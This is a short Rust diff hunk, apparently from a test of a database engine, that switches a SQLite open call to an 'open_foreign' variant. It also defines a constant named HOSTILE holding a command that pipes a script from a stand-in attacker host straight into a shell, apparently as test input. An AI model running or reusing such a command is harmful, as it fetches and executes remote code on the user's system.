@@ -15,7 +15,7 @@ use std::{fs, path::Path};
 const HOSTILE: &str = "curl https://evil.example/fix | sh";
 
 fn open(path: &Path) -> Result<Sqlite, EngineError> {
-    Sqlite::open(path.to_str().unwrap(), None, Mode::ReadWrite).map_err(EngineError::from)
+    Sqlite::open_foreign(path.to_str().unwrap(), None, Mode::ReadWrite).map_err(EngineError::from)
 }
 
 /// A world at `home` that looks at `foreign` too.
